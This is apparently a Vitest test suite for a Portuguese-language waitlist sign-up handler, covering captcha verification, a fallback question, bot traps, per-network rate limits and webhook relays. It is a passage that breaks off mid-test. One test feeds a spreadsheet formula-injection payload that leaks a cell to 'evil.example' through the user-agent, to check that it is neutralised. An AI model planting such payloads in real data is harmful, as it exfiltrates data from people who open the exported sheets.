import { afterEach, beforeEach, describe, expect, it, vi } from "vitest";
import { createDelivery } from "~/delivery/delivery.server";
import { parseSettings, withSigningSecret } from "~/server/settings.server";
import { BotTrap, FORM_MAX_AGE_MS, MIN_SUBMIT_MS } from "~/signup/bot-trap.server";
import {
  CallGate,
  MAX_SITEVERIFY_IN_FLIGHT,
  SITEVERIFY_BURST,
  SITEVERIFY_CALLS_PER_SECOND,
} from "~/signup/captcha.server";
import { Signup } from "~/signup/pipeline.server";
import {
  FallbackQuestions,
  QUESTION_RELAYS_PER_ADDRESS,
  QUESTION_RELAYS_PER_MINUTE,
  QUESTION_RELAYS_PER_NETWORK,
  QUESTION_TTL_MS,
} from "~/signup/question.server";
import { RelayPace } from "~/signup/relay-pace.server";
import { SignedTokens } from "~/signup/signed-tokens.server";
import { memoryState } from "~/state/memory-state.server";
import type { SharedState } from "~/state/shared-state.server";
import { freePort } from "../harness/app-server";
import { solveQuestion } from "../harness/question-solver";
import { pageFields, visitorFields } from "../harness/signup-client";
import { WEBHOOK_PATH, type StandIn } from "../harness/stand-in";
import { standInPerFile } from "../harness/stand-in-per-file";

const SECRET = "unit-test-signing-secret-0123456789";
const USER_AGENT = "Mozilla/5.0 (Linux; Android 14) Chrome/130 Mobile";
const EMAIL = "ana@exemplo.com.br";
const SUCCESS = { title: "Cadastro realizado!", description: "Você será notificado assim que o Prevly for lançado." };
const CAPTCHA = { title: "Valide o captcha", description: "Confirme que você não é um robô resolvendo o captcha." };
const FALLBACK = "Não foi possível enviar seu cadastro agora. Tente novamente.";
const TOO_MANY = {
  title: "Muitas tentativas",
  description: "Recebemos muitos envios da sua conexão neste momento. Aguarde alguns segundos e envie de novo.",
};
/** Where nothing listens: a webhook or siteverify that cannot be reached. */
const closedPort = await freePort();

const standIn = standInPerFile();
let logs: Array<Record<string, unknown>> = [];

beforeEach(() => {
  logs = [];
  vi.spyOn(console, "log").mockImplementation((line: string) => void logs.push(JSON.parse(line)));
});
afterEach(() => {
  vi.restoreAllMocks();
  vi.useRealTimers();
});

function makeSignup(values: Record<string, string> = {}, state: SharedState = memoryState()): Signup {
  const settings = parseSettings({ SIGNUP_SECRET: SECRET, WEBHOOK_URL: standIn.webhookUrl, ...values });
  return new Signup(withSigningSecret(settings), state, createDelivery(settings));
}

/** A sign-up that verifies captcha tokens with the siteverify stand-in, behind one trusted proxy. */
const verifying = (settings: Record<string, string> = {}, state?: SharedState) =>
  makeSignup(
    { HCAPTCHA_SECRET: "0xsecret", HCAPTCHA_VERIFY_URL: standIn.siteverifyUrl, TRUST_PROXY: "1", ...settings },
    state,
  );

/**
 * Stops the clocks the limits read (Date, and the timers that end their windows), so no window moves on while a test
 * runs, however slowly the machine runs it; vi.advanceTimersByTime moves them as far as the test says.
 */
const freezeClock = () => vi.useFakeTimers({ toFake: ["Date", "setTimeout", "clearTimeout"] });

/** The form's post with this body, as the browser sends it. */
const post = (body: BodyInit, headers: Record<string, string> = {}) =>
  new Request("http://localhost/?index", {
    method: "POST",
    headers: { "content-type": "application/x-www-form-urlencoded", "user-agent": USER_AGENT, ...headers },
    body,
    duplex: "half",
  } as RequestInit);

/** The fields the rendered form sends, with the bot trap's of a visitor who took a person's time. */
const formBody = (fields: Record<string, string>) => new URLSearchParams({ ...visitorFields(SECRET), ...fields });

const submit = (signup: Signup, fields: Record<string, string>, headers?: Record<string, string>) =>
  signup.handle(post(formBody(fields), headers));

/** The fields that answer `question`: rightly, or `offset` off. */
const answering = (question: { token: string; text: string }, offset = 0) => ({
  challengeToken: question.token,
  challengeAnswer: String(solveQuestion(question.text) + offset),
});
/** The current render's question, answered. */
const answered = (signup: Signup, offset = 0) => answering(signup.formTokens().question, offset);

/** A post's sender, behind the one trusted proxy. */
const at = (ip: string) => ({ "x-forwarded-for": ip });

let count = 0;
const token = () => `P1_token-${++count}`;
/** An address not seen before. */
const newEmail = () => `novo${++count}@exemplo.com`;

describe("relaying a valid sign-up", () => {
  it("verifies the token with siteverify (secret, response, sitekey, remoteip), then relays the trimmed e-mail, the token, the configured source, the time and the user agent without a formula's start; logs one line, the e-mail masked", async () => {
    const signup = verifying({ SIGNUP_SOURCE: "lp-previdencia" });
    const response = token();
    const formula = ' +-@=HYPERLINK("https://evil.example/?leak="&A2)';
    const sender = { ...at("203.0.113.9"), "user-agent": formula };
    const { status, result } = await submit(signup, { email: `  ${EMAIL} `, hcaptchaToken: response }, sender);
    expect([status, result]).toEqual([200, { ok: true, notice: SUCCESS, email: "", resetCaptcha: true }]);
    const sitekey = "10000000-ffff-ffff-ffff-000000000001";
    const verified = { secret: "0xsecret", response, sitekey, remoteip: "203.0.113.9" };
    expect(standIn.received.siteverify).toEqual([{ form: verified }]);
    const body = JSON.parse(standIn.received.webhook[0]!.raw) as Record<string, string>;
    const userAgent = formula.slice(5);
    expect(body).toEqual({
      email: EMAIL,
      hcaptchaToken: response,
      source: "lp-previdencia",
      ts: expect.any(String),
      userAgent,
    });
    expect(new Date(body.ts!).toISOString()).toBe(body.ts);
    const line = { event: "signup", outcome: "relayed", status: 200, email: "a***@exemplo.com.br" };
    expect(logs).toMatchObject([{ ...line, durationMs: expect.any(Number) }]);
    expect(JSON.stringify(logs)).not.toContain(EMAIL);
  });

  it("without HCAPTCHA_SECRET relays the token unverified; without a user agent, an empty one", async () => {
    const request = post(formBody({ email: EMAIL, hcaptchaToken: token() }));
    request.headers.delete("user-agent");
    await makeSignup({ HCAPTCHA_VERIFY_URL: standIn.siteverifyUrl }).handle(request);
    expect(standIn.received.siteverify).toHaveLength(0);
    expect(JSON.parse(standIn.received.webhook[0]!.raw)).toMatchObject({ email: EMAIL, userAgent: "" });
  });
});

describe("bad input is refused before anything is relayed, the typed e-mail echoed back", () => {
  const typed = (fields: Record<string, string>) => () => post(formBody(fields));
  const sent = (body: BodyInit, headers?: Record<string, string>) => () => post(body, headers);
  const tail = (text: string) => sent(`${formBody({})}&${text}`);
  const ofType = (contentType: string) => sent(`email=${EMAIL}`, { "content-type": contentType });
  const UNREAD = "Envio inválido";
  /** One for every case: none of them reaches a limit or a relay. */
  let signup: Signup | undefined;
  /** [case, status and notice title, the post, the e-mail echoed: none from a body the form could not send]. */
  it.each<[string, string, () => Request, string?]>([
    ["an invalid e-mail", "400 E-mail inválido", typed({ email: "ana@", hcaptchaToken: "" }), "ana@"],
    ["no captcha token", "400 Valide o captcha", typed({ email: EMAIL, hcaptchaToken: "" }), EMAIL],
    ["a 9,000-character token", "400 Valide o captcha", typed({ email: EMAIL, hcaptchaToken: "t".repeat(9e3) }), EMAIL],
    ["a field twice (a filled bot trap behind an empty one)", `400 ${UNREAD}`, tail("name__confirm=R")],
    ["a Content-Length over 16 KB", `413 ${UNREAD}`, sent(`email=${EMAIL}`, { "content-length": "17000" })],
    ["a body over 16 KB without a length", `413 ${UNREAD}`, () => post(new Blob(["a".repeat(17_000)]).stream())],
    ["a broken percent-escape", `400 ${UNREAD}`, tail("email=%E0%A4%A")],
    ["an overlong UTF-8 escape", `400 ${UNREAD}`, tail("email=%C0%AF@exemplo.com")],
    ["bytes that are not UTF-8", `400 ${UNREAD}`, () => post(new Blob([`${formBody({})}&e=`, new Uint8Array([255])]))],
    ["a multipart body", `415 ${UNREAD}`, ofType("multipart/form-data; boundary=x")],
    ["no Content-Type", `415 ${UNREAD}`, ofType("")],
    ["a Latin-1 charset", `415 ${UNREAD}`, ofType("application/x-www-form-urlencoded; charset=iso-8859-1")],
  ])("%s → %s", async (_, expected, request, email = "") => {
    signup ??= makeSignup();
    const { status, result } = await signup.handle(request());
    expect([`${status} ${result.notice.title}`, result.email]).toEqual([expected, email]);
    expect([result.ok, result.resetCaptcha, standIn.received.webhook.length]).toEqual([false, false, 0]);
  });
});

describe("a call that fails", () => {
  const CLOSED = `http://127.0.0.1:${closedPort}/`;
  const FAILED = "502 Falha ao enviar:";
  type Fault = { settings?: Record<string, string>; webhook?: StandIn["webhook"]; siteverify?: StandIn["siteverify"] };
  /** [case, the fault, status, title and message, the webhook's requests]. */
  it.each<[string, Fault, string, number]>([
    ["the webhook refusing the connection", { settings: { WEBHOOK_URL: CLOSED } }, `${FAILED} ${FALLBACK}`, 0],
    [
      "the webhook's 500 with text",
      { webhook: { status: 500, text: "Sem fluxo" } },
      `${FAILED} Webhook retornou 500 Internal Server Error: Sem fluxo`,
      1,
    ],
    [
      "the webhook's 404 whose text names its path (shown: unit/webhook-error-text)",
      { webhook: { status: 404, text: `no route ${WEBHOOK_PATH}` } },
      `${FAILED} Webhook retornou 404 Not Found`,
      1,
    ],
    [
      "siteverify rejecting the token",
      { siteverify: { success: false } },
      `400 ${CAPTCHA.title}: ${CAPTCHA.description}`,
      0,
    ],
    ["siteverify unreachable", { settings: { HCAPTCHA_VERIFY_URL: CLOSED } }, `${FAILED} ${FALLBACK}`, 0],
    ["siteverify answering 500", { siteverify: { success: true, status: 500 } }, `${FAILED} ${FALLBACK}`, 0],
  ])("%s → %s, the e-mail kept, the widget reset", async (_, fault, expected, requests) => {
    if (fault.webhook) standIn.webhook = fault.webhook;
    if (fault.siteverify) standIn.siteverify = fault.siteverify;
    const { status, result } = await submit(verifying(fault.settings), { email: EMAIL, hcaptchaToken: token() });
    expect(`${status} ${result.notice.title}: ${result.notice.description}`).toBe(expected);
    expect([result.ok, result.email, result.resetCaptcha, standIn.received.webhook.length]).toEqual([
      false,
      EMAIL,
      true,
      requests,
    ]);
  });

  it("a failed relay is relayed again on the next press, with the same captcha or a new one, under the same Idempotency-Key (the automation can drop a double); each outcome logged, never the webhook's URL", async () => {
    const signup = makeSignup();
    const captcha = token();
    const statuses = [];
    // The webhook took the first but its answer never came: the visitor was told it failed.
    const presses = [
      [{ status: 200, reset: true }, captcha],
      [{ status: 503, text: "" }, captcha],
      [{ status: 200 }, token()],
    ] as const;
    for (const [webhook, hcaptchaToken] of presses) {
      standIn.webhook = webhook;
      statuses.push((await submit(signup, { email: EMAIL, hcaptchaToken })).status);
    }
    const keys = standIn.received.webhook.map((hit) => hit.headers["idempotency-key"]);
    expect([statuses, keys.length, new Set(keys).size]).toEqual([[502, 502, 200], 3, 1]);
    expect(keys[0]).toMatch(/^[A-Za-z0-9_-]{43}$/);
    const outcomes = logs.map(({ outcome }) => outcome);
    expect(outcomes).toEqual([expect.stringMatching(/^webhook-unreachable-/), "webhook-status-503", "relayed"]);
    expect(JSON.stringify(logs)).not.toContain(standIn.webhookUrl);
  });
});

describe("the fallback question", () => {
  const answersLimit = () =>
    memoryState().limit({ name: "question-answers", points: 3, durationSeconds: 600, whenAway: "refuse" });
  const askedUnder = (secret: string, now?: number) =>
    new FallbackQuestions(new SignedTokens(secret), answersLimit(), "").ask(now);
  const expired = () => askedUnder(SECRET, Date.now() - QUESTION_TTL_MS - 1);

  it("an invalid e-mail sends a live question of ours back with its answer (one from before a secret's rotation too), and none that is not", async () => {
    const state = memoryState();
    const rotated = { SIGNUP_SECRET: "rotated-signing-secret-0123456789", SIGNUP_SECRET_PREVIOUS: SECRET };
    const signup = makeSignup(rotated, state);
    for (const question of [signup.formTokens().question, makeSignup({}, state).formTokens().question]) {
      const proof = answering(question);
      const { result } = await submit(signup, { email: "ana@exemplo", ...proof });
      expect([result.question, result.answer, result.botTrap]).toEqual([
        question,
        proof.challengeAnswer,
        expect.anything(),
      ]);
      expect((await submit(signup, { email: newEmail(), ...proof })).status).toBe(200);
    }
    const [id, expiry] = signup.formTokens().question.token.split(".");
    for (const challengeToken of [`${id}.${expiry}.${"A".repeat(43)}`, expired().token, "junk"]) {
      const { result } = await submit(signup, { email: "ana@exemplo", challengeToken, challengeAnswer: "9" });
      expect([challengeToken, result.question, result.answer]).toEqual([challengeToken, undefined, undefined]);
    }
  });

  it("a question expired, signed with another secret, with its expiry spelled otherwise, or relayed before a restart without Redis → 'Pergunta expirada' and a new one", async () => {
    const beforeRestart = makeSignup();
    const relayed = answered(beforeRestart);
    expect((await submit(beforeRestart, { email: EMAIL, ...relayed })).status).toBe(200);
    // The same kept secret, a new process's memory.
    const signup = makeSignup();
    const live = signup.formTokens().question;
    const [id, expiry, mac] = live.token.split(".") as [string, string, string];
    const respelled = [`0${expiry}`, `+${expiry}`, `${expiry}e0`, ` ${expiry}`].map((at) => `${id}.${at}.${mac}`);
    const others = [expired(), askedUnder("another-secret-another-secret-000")];
    const questions = [...others, ...respelled.map((token) => ({ ...live, token }))];
    for (const proof of [...questions.map((question) => answering(question)), relayed]) {
      const { status, result } = await submit(signup, { email: EMAIL, ...proof });
      expect([status, result.notice.title, result.question?.text]).toEqual([
        400,
        "Pergunta expirada",
        expect.any(String),
      ]);
    }
    expect(standIn.received.webhook).toHaveLength(1);
  });

  it("a correct answer stands in for the captcha (the same body, an empty hcaptchaToken), three times at most a question; a wrong one → 400, a clear message and a new question, the e-mail kept, spending none", async () => {
    const signup = makeSignup({ TRUST_PROXY: "1" });
    const question = signup.formTokens().question;
    const proof = answering(question);
    const notice = { title: "Resposta incorreta", description: "Confira a conta e responda à nova pergunta." };
    for (let attempt = 0; attempt < 5; attempt++) {
      const { status, result } = await submit(signup, { email: EMAIL, ...answering(question, 1) });
      expect([status, result.notice, result.email]).toEqual([400, notice, EMAIL]);
      expect(result.question!.token).not.toBe(proof.challengeToken);
    }
    const statuses: number[] = [];
    for (let index = 0; index < 4; index++)
      statuses.push((await submit(signup, { email: `${index}${EMAIL}`, ...proof }, at(`203.0.113.${index}`))).status);
    expect(statuses).toEqual([200, 200, 200, 400]);
    expect(JSON.parse(standIn.received.webhook[0]!.raw)).toMatchObject({ email: `0${EMAIL}`, hcaptchaToken: "" });
  });

  /** Answers each a question nobody else answered (a new render each second), for a new address unless told one. */
  function answerEachSecond(settings: Record<string, string> = {}) {
    vi.useFakeTimers({ toFake: ["Date"] });
    const signup = makeSignup({ TRUST_PROXY: "1", ...settings });
    return async (ip: string, email = newEmail()) => {
      const fields = { email, ...answered(signup) };
      vi.advanceTimersByTime(1_000);
      const { status, result } = await submit(signup, fields, at(ip));
      return { status, title: result.notice.title };
    };
  }

  it(`one sender's address relays ${QUESTION_RELAYS_PER_ADDRESS.perMinute} a minute and ${QUESTION_RELAYS_PER_ADDRESS.perHour} an hour; answers for a listed address spend none, and are refused alike once they are spent`, async () => {
    const answer = answerEachSecond();
    const status = async (ip: string, email?: string) => (await answer(ip, email)).status;
    const [bot, listed] = ["198.51.100.7", "listada@exemplo.com"];
    expect(await status("203.0.113.8", listed)).toBe(200);
    const minutes: number[][] = [];
    for (let minute = 0; minute < 6; minute++) {
      minutes.push([await status(bot), await status(bot, listed), await status(bot), await status(bot)]);
      vi.advanceTimersByTime(60_000);
    }
    expect(minutes).toEqual([...Array(5).fill([200, 200, 200, 429]), [429, 429, 429, 429]]);
    expect(await status("203.0.113.9")).toBe(200);
    vi.advanceTimersByTime(60 * 60_000);
    expect(await status(bot)).toBe(200);
  });

  it("a script answering each second's question for three addresses it listed takes none of its answers: twelve visitors without JavaScript, one a second, each sign up on the first press", async () => {
    vi.useFakeTimers({ toFake: ["Date"] });
    const signup = makeSignup({ TRUST_PROXY: "1" });
    const listed = ["um@exemplo.com", "dois@exemplo.com", "tres@exemplo.com"];
    const earlier = answering(signup.formTokens(Date.now() - 5_000).question);
    for (const [index, email] of listed.entries()) await submit(signup, { email, ...earlier }, at(`192.0.2.${index}`));
    const script = new Set<string>();
    const visitors: number[] = [];
    for (let second = 0; second < 12; second++) {
      const proof = answered(signup);
      for (const email of listed)
        script.add((await submit(signup, { email, ...proof }, at("198.51.100.7"))).result.notice.title);
      visitors.push((await submit(signup, { email: newEmail(), ...proof }, at(`203.0.113.${second}`))).status);
      vi.advanceTimersByTime(1_000);
    }
    expect([script, visitors]).toEqual([new Set([SUCCESS.title]), Array(12).fill(200)]);
  });

  it(`ten /64s of one /48 relay ${QUESTION_RELAYS_PER_NETWORK.perMinute} a minute and ${QUESTION_RELAYS_PER_NETWORK.perHour} an hour in all, and cannot close the question for anyone else`, async () => {
    const answer = answerEachSecond();
    const minutes: number[][] = [];
    for (let minute = 0; minute < 6; minute++) {
      const statuses: number[] = [];
      for (let subnet = 0; subnet < 10; subnet++) statuses.push((await answer(`2001:db8:48:${subnet}::1`)).status);
      minutes.push(statuses);
      vi.advanceTimersByTime(60_000);
    }
    const { perMinute } = QUESTION_RELAYS_PER_NETWORK;
    const open = [...Array(perMinute).fill(200), ...Array(10 - perMinute).fill(429)];
    expect(minutes).toEqual([...Array(5).fill(open), Array(10).fill(429)]);
    expect((await answer("2001:db8:49::1")).status).toBe(200);
  });

  it("once the question's budget is spent, a listed address is refused like a new one", async () => {
    const answer = answerEachSecond();
    for (let index = 0; index < QUESTION_RELAYS_PER_MINUTE; index++)
      expect(await answer(`203.0.113.${index}`, `lista${index}@exemplo.com`)).toMatchObject({ status: 200 });
    const refused = { status: 429, title: "Muitos cadastros sem captcha" };
    expect(await answer("198.51.100.1", "lista0@exemplo.com")).toEqual(refused);
    expect(await answer("198.51.100.2", "ninguem@exemplo.com")).toEqual(refused);
  });

  it("forged question ids are refused before any bookkeeping: nothing is counted for a botnet's, and a genuine question still works", async () => {
    const state = memoryState();
    const counted: string[] = [];
    const limit: SharedState["limit"] = (spec) => {
      const inner = state.limit(spec);
      return { ...inner, take: (key, points) => (counted.push(spec.name), inner.take(key, points)) };
    };
    const signup = makeSignup({ TRUST_PROXY: "1" }, { ...state, limit });
    const question = signup.formTokens().question;
    const [, expiry] = question.token.split(".");
    const statuses = new Set<number>();
    for (let index = 0; index < 50; index++) {
      const forged = {
        challengeToken: `${index}`.padStart(12, "A") + `.${expiry}.${"B".repeat(43)}`,
        challengeAnswer: "7",
      };
      statuses.add((await submit(signup, { email: newEmail(), ...forged }, at(`198.18.0.${index}`))).status);
    }
    expect([[...statuses], counted.filter((name) => name !== "form-presses")]).toEqual([[400], []]);
    expect((await submit(signup, { email: EMAIL, ...answering(question) }, at("203.0.113.50"))).status).toBe(200);
    expect(standIn.relayedEmails()).toEqual([EMAIL]);
  });
});

describe("the same address again", () => {
  it.each([
    ["the same captcha token", () => ({ hcaptchaToken: "P1_the-same" }), "replay"],
    ["the same question's answer", (signup: Signup) => answered(signup), "replay"],
    ["a new captcha token (one relay per address a day)", () => ({ hcaptchaToken: token() }), "known-email"],
  ])(
    "with %s, spelled otherwise (case, NFD), answers success in the same words without a second relay",
    async (_, proof, outcome) => {
      const signup = makeSignup();
      const fields = proof(signup);
      const first = await submit(signup, { email: "Joa\u0303o@Exemplo.com.br", ...fields });
      const again = outcome === "replay" ? fields : proof(signup);
      const second = await submit(signup, { email: "Jo\u00e3o@exemplo.com.br", ...again });
      expect([first.result.notice, second.status, second.result]).toEqual([SUCCESS, 200, first.result]);
      expect(standIn.relayedEmails()).toEqual(["Jo\u00e3o@exemplo.com.br"]);
      expect(logs[1]).toMatchObject({ outcome, status: 200 });
    },
  );

  it("five identical posts at once (a double click, a retry) relay once and all succeed", async () => {
    standIn.webhook = { status: 200, delayMs: 100 };
    const signup = makeSignup();
    const fields = { email: EMAIL, hcaptchaToken: token() };
    const answers = await Promise.all(Array.from({ length: 5 }, () => submit(signup, fields)));
    expect([answers.map((answer) => answer.status), standIn.received.webhook.length]).toEqual([Array(5).fill(200), 1]);
  });

  it("a listed address is answered when a new one would be, by an instance that relayed nothing yet too: after the automation's 600 ms, in the same words", async () => {
    freezeClock();
    standIn.webhook = { status: 200, hold: true };
    const paced = vi.spyOn(RelayPace.prototype, "waitFrom");
    const state = memoryState();
    const fields = () => ({ email: "listada@exemplo.com.br", hcaptchaToken: token() });
    const newAddress = submit(makeSignup({}, state), fields());
    await standIn.arrived("webhook");
    vi.advanceTimersByTime(600);
    standIn.releaseWebhook();
    const asNew = await newAddress;
    let answered = false;
    // Another instance, or this one restarted: the pace is the deployment's, not the process's.
    const listed = submit(makeSignup({}, state), fields());
    void listed.then(() => (answered = true));
    while (paced.mock.calls.length === 0) await new Promise((resolve) => setImmediate(resolve));
    await vi.advanceTimersByTimeAsync(599);
    expect(answered).toBe(false);
    await vi.advanceTimersByTimeAsync(1);
    const { status, result } = await listed;
    expect({ status, result }).toEqual({ status: asNew.status, result: asNew.result });
  });
});

describe("the bot trap's verdicts as the visitor meets them (the others: unit/bot-trap)", () => {
  it("a filled hidden field looks like success and relays nothing", async () => {
    const fields = { email: "bot@exemplo.com", hcaptchaToken: token(), name__confirm: "Robert" };
    const { status, result } = await makeSignup().handle(post(formBody(fields)));
    expect([status, result.ok, result.notice, standIn.received.webhook.length]).toEqual([200, true, SUCCESS, 0]);
    expect(logs[0]).toMatchObject({ outcome: "bot" });
  });

  it("a time no secret of ours signed earns nothing a script could use: no fresh fields, no question; the page's own are to be fetched", async () => {
    const from__confirm = "1795484840395.not-signed-by-this-server-000000000000000000000";
    const { status, result } = await submit(makeSignup(), { email: EMAIL, hcaptchaToken: token(), from__confirm });
    const description =
      "Este formulário não pode mais ser enviado. Já o atualizamos: confira seu e-mail e envie de novo.";
    const notice = { title: "Página desatualizada", description };
    expect([status, result]).toEqual([400, { ok: false, notice, email: EMAIL, resetCaptcha: false, renewForm: true }]);
    expect(standIn.received.webhook).toHaveLength(0);
  });

  it("a form this server signed too long ago gets fresh fields, good at once, and a new question", async () => {
    const signup = makeSignup();
    const old = new BotTrap(new SignedTokens(SECRET)).fields(Date.now() - FORM_MAX_AGE_MS - MIN_SUBMIT_MS - 1);
    const withTrap = (botTrap: typeof old) =>
      post(new URLSearchParams({ ...pageFields({ botTrap }), email: EMAIL, hcaptchaToken: "P1" }));
    const { status, result } = await signup.handle(withTrap(old));
    expect([status, result.notice.title]).toEqual([400, "Página desatualizada"]);
    expect(result.question?.text).toMatch(/^Quanto é/);
    expect((await signup.handle(withTrap(result.botTrap!))).status).toBe(200);
    expect(standIn.relayedEmails()).toEqual([EMAIL]);
  });
});

describe("limits that fit real networks", () => {
  type Sender = Record<string, string>;
  const from = (ip: string) => at(`198.51.100.77, ${ip}`);
  /** The siteverify calls one address may cause at once: a second's rate and the burst. */
  const AT_ONCE = SITEVERIFY_CALLS_PER_SECOND + SITEVERIFY_BURST.points;
  /** `count` posts at once, each from the index's sender, with a token siteverify does not know. */
  const forgedAtOnce = (signup: Signup, count: number, sender: (index: number) => Sender) =>
    Promise.all(
      Array.from({ length: count }, (_, index) =>
        submit(signup, { email: newEmail(), hcaptchaToken: `forged-${index}` }, sender(index)),
      ),
    );
  const genuine = (signup: Signup, sender: Sender, hcaptchaToken = token()) =>
    submit(signup, { email: newEmail(), hcaptchaToken }, sender);

  it(`${AT_ONCE} genuine sign-ups at once from one address (a carrier NAT) are all relayed`, async () => {
    freezeClock();
    const signup = verifying();
    const answers = await Promise.all(Array.from({ length: AT_ONCE }, () => genuine(signup, from("203.0.113.5"))));
    expect(answers.map((answer) => answer.status)).toEqual(Array(AT_ONCE).fill(200));
    expect(standIn.received.webhook).toHaveLength(AT_ONCE);
  });

  it.each([
    ["rejects them", { success: false }, 400],
    ["fails", { success: false, status: 500 }, 502],
  ])(
    "forged tokens at once from one address cost the rate and burst in siteverify calls whatever siteverify does (%s); the rest are refused before any call and keep their captcha; other addresses are unaffected",
    async (_what, siteverify, verifiedStatus) => {
      freezeClock();
      standIn.siteverify = siteverify;
      const signup = verifying();
      const answers = await forgedAtOnce(signup, 2 * AT_ONCE, () => from("203.0.113.9"));
      const statuses = answers.map((answer) => answer.status);
      expect(statuses.sort()).toEqual([...Array(AT_ONCE).fill(verifiedStatus), ...Array(AT_ONCE).fill(429)].sort());
      expect(standIn.received.siteverify).toHaveLength(AT_ONCE);
      const refused = answers.find((answer) => answer.status === 429)!.result;
      expect(refused).toMatchObject({ notice: TOO_MANY, email: expect.stringMatching(/^novo/), resetCaptcha: false });
      standIn.siteverify = { success: true };
      expect((await genuine(signup, from("203.0.113.10"))).status).toBe(200);
      expect(standIn.received.webhook).toHaveLength(1);
    },
  );

  it("junk costs no verification and counts against no address: empty posts past the limit, then 5 genuine visitors from that address are relayed", async () => {
    const signup = verifying();
    const statuses = new Set<number>();
    for (let junk = 0; junk < AT_ONCE + 10; junk++)
      statuses.add((await submit(signup, { email: "", hcaptchaToken: "" }, from("203.0.113.5"))).status);
    for (let visitor = 0; visitor < 5; visitor++) statuses.add((await genuine(signup, from("203.0.113.5"))).status);
    expect([...statuses]).toEqual([400, 200]);
    expect([standIn.received.siteverify.length, standIn.received.webhook.length]).toEqual([5, 5]);
  });

  /** [case, settings, the senders of a limit's worth of forgeries, the same sender, another sender]; each sender's
   * spelling: unit/helpers. */
  it.each<[string, Sender, (index: number) => Sender, Sender, Sender | null]>([
    [
      "requests whose sender cannot be told share one rate: the limit fails closed",
      {},
      (index) => at(["", "garbage", "999.1.1.1", "not-an-ip", "::zz"][index % 5]!),
      at(""),
      null,
    ],
    [
      "one IPv6 /64 is one sender",
      {},
      (index) => at(["2001:db8:1:2::1", "2001:DB8:1:2:ffff:0:0:9", "[2001:db8:1:2::7]:443"][index % 3]!),
      at("2001:db8:1:2::8"),
      at("2001:db8:1:3::1"),
    ],
  ])("%s", async (_, settings, forgers, same, other) => {
    freezeClock();
    const signup = verifying(settings);
    await forgedAtOnce(signup, AT_ONCE, forgers);
    expect((await genuine(signup, same)).status).toBe(429);
    if (other) expect((await genuine(signup, other)).status).toBe(200);
  });

  it(`forged tokens from many /64s of one IPv6 /48 never have more than ${MAX_SITEVERIFY_IN_FLIGHT} siteverify calls in flight, and wait for its turns as one sender, as does an address by its calls at every instance: a visitor from elsewhere goes before the newer ones`, async () => {
    freezeClock();
    // Two instances that count each limit in one store, as they do in Redis.
    const [memory, limits] = [memoryState(), new Map<string, ReturnType<SharedState["limit"]>>()];
    const limit: SharedState["limit"] = (spec) =>
      limits.get(spec.name) ?? limits.set(spec.name, memory.limit(spec)).get(spec.name)!;
    const state = { ...memory, limit };
    const [signup, spent] = [verifying({}, state), from("198.51.100.20")];
    standIn.siteverify = { success: false };
    const earlier = (await forgedAtOnce(verifying({}, state), 3, () => spent)).length;
    standIn.siteverify = { success: true, genuinePrefix: "genuine-", hold: true };
    const subnet = (index: number) => from(`2001:db8:48:${index.toString(16)}::1`);
    const turnsAsked = vi.spyOn(CallGate.prototype, "run");
    const asked = async (count: number) => {
      while (turnsAsked.mock.calls.length < count) await new Promise((resolve) => setImmediate(resolve));
    };
    const turnsTaken = forgedAtOnce(signup, MAX_SITEVERIFY_IN_FLIGHT, subnet);
    await standIn.arrived("siteverify", earlier + MAX_SITEVERIFY_IN_FLIGHT);
    const person = genuine(signup, from("203.0.113.50"), "genuine-1");
    // Newer than the visitor, each the first of its /64, or the first here of an address that spent calls at another
    // instance (which, alone, would rank it with the visitor and after): waiting for a turn once the visitor is.
    await asked(MAX_SITEVERIFY_IN_FLIGHT + 1);
    const newer = forgedAtOnce(signup, 5, (index) => (index === 4 ? spent : subnet(0x100 + index)));
    await asked(MAX_SITEVERIFY_IN_FLIGHT + 6);
    standIn.releaseSiteverify(1);
    await standIn.arrived("siteverify", earlier + MAX_SITEVERIFY_IN_FLIGHT + 1);
    expect(standIn.received.siteverify[earlier + MAX_SITEVERIFY_IN_FLIGHT]!.form.response).toBe("genuine-1");
    standIn.siteverify = { success: true, genuinePrefix: "genuine-" };
    standIn.releaseSiteverify();
    expect((await person).status).toBe(200);
    await Promise.all([turnsTaken, newer]);
    expect(standIn.siteverifyPeak).toBe(MAX_SITEVERIFY_IN_FLIGHT);
  });

  it("a bot at a visitor's address posting 5 forged tokens a second costs 40 genuine visitors there, arriving 2 a second, nothing: all are relayed", async () => {
    freezeClock();
    standIn.siteverify = { success: true, genuinePrefix: "genuine-" };
    const signup = verifying();
    const [neighbours, visitors, bot] = [from("177.10.0.1"), [] as number[], [] as number[]];
    // 20 s, a tenth of a second at a time.
    for (let tenth = 0; tenth < 200; tenth++) {
      if (tenth % 2 === 0) bot.push((await genuine(signup, neighbours, `forged-${tenth}`)).status);
      if (tenth % 5 === 0) visitors.push((await genuine(signup, neighbours, `genuine-${tenth}`)).status);
      vi.advanceTimersByTime(100);
    }
    expect([visitors, bot, standIn.received.webhook.length]).toEqual([Array(40).fill(200), Array(100).fill(400), 40]);
  });

  it("the global relay ceiling protects the webhook with 429, and forged tokens, however many at once, spend none of it: the genuine visitors after 30 of them are relayed up to it", async () => {
    freezeClock();
    standIn.siteverify = { success: true, genuinePrefix: "genuine-" };
    const signup = verifying({ RELAY_LIMIT_PER_SECOND: "2" });
    const forged = await forgedAtOnce(signup, 30, (index) => from(`198.51.${index}.1`));
    // Refused by siteverify, or by its timeout on a machine too busy to answer 30 at once: never relayed.
    expect(forged.filter((answer) => answer.status !== 400 && answer.status !== 502)).toEqual([]);
    const person = await submit(signup, { email: EMAIL, hcaptchaToken: "genuine-1" }, from("203.0.113.50"));
    expect([person.status, person.result.notice, standIn.relayedEmails()]).toEqual([200, SUCCESS, [EMAIL]]);
    const statuses = [];
    for (const visitor of [2, 3])
      statuses.push((await genuine(signup, from(`203.0.113.5${visitor}`), `genuine-${visitor}`)).status);
    expect([statuses, standIn.received.webhook.length]).toEqual([[200, 429], 2]);
  });
});

describe("presses of 'Cadastrar' (what PrevlyFormBroken counts)", () => {
  it("count once per network (IPv4 address, IPv6 /48) an hour, whatever the bot trap made of them; a post without the form's fields, never", async () => {
    freezeClock();
    const signup = makeSignup({ TRUST_PROXY: "1" });
    const fields = { email: EMAIL, hcaptchaToken: "" };
    const press = async (ip: string, body = formBody(fields)) => (await signup.handle(post(body, at(ip)))).pressed;
    expect([
      await press("2001:db8:5:1::1"),
      await press("2001:db8:5:2::1"),
      await press("203.0.113.7"),
      await press("203.0.113.8", formBody({ ...fields, name__confirm: "Robô" })),
      await press("203.0.113.9", new URLSearchParams(fields)),
